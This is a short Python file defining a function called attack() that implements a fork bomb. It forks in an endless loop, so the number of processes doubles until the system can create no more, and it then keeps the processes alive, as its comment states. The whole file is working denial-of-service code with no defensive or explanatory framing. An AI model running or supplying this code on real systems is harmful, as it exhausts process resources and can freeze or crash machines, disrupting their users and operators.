import os
import time


def attack():
    # Doubles until nobody can be made any more, and then stays.
    started = 0
    try:
        while True:
            if os.fork():
                started += 1
            else:
                started = 0
    except OSError:
        time.sleep(1)
        if not started:
            os._exit(0)
        raise
